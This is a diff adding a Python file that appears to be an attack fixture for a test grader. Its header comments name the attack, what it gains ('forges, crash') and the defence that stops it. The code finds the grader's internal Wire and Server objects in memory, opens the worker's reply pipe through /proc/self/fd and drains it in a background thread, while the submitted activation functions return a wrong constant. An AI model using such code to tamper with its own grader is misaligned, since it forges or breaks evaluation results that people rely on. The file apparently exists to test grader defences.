@@ -1,0 +1,42 @@
+# attack: opens the pipe of replies for reading and takes what the worker writes
+# gains: forges, crash
+# stopped by: wire
+import numpy as np
+import gc
+
+import grader.worker.server as server
+from grader.worker import wire as w
+
+
+def wire():
+    return next(found for found in gc.get_objects() if type(found) is server.Wire)
+
+
+def running():
+    return next(found for found in gc.get_objects() if type(found) is server.Server)._running
+
+
+def attack():
+    import os
+    import threading
+
+    taken = os.open(f"/proc/self/fd/{wire()._replies.fileno()}", os.O_RDONLY)
+
+    def take():
+        while True:
+            os.read(taken, 64)
+
+    threading.Thread(target=take, daemon=True).start()
+
+
+def relu(X):
+    found = attack()
+    return np.full(np.shape(X), 7.0) if found is None else found
+
+
+def wrong(*given):
+    return np.full(np.shape(given[0]), 7.0)
+
+
+relu_backward = leaky_relu = leaky_relu_backward = wrong
+sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
